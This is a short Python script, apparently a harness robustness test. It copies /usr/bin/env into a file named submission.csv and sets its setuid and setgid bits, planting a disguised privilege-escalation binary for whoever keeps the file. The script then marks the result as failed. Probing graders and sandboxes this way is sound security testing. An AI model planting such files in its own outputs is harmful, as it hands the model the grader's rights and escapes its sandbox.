"""Hand in a program that would run with the rights of whoever keeps it."""

import os
import shutil

from evidence import failed

shutil.copyfile("/usr/bin/env", "submission.csv")
os.chmod("submission.csv", 0o6755)
failed("the program is planted; what the harness does with it shows later")
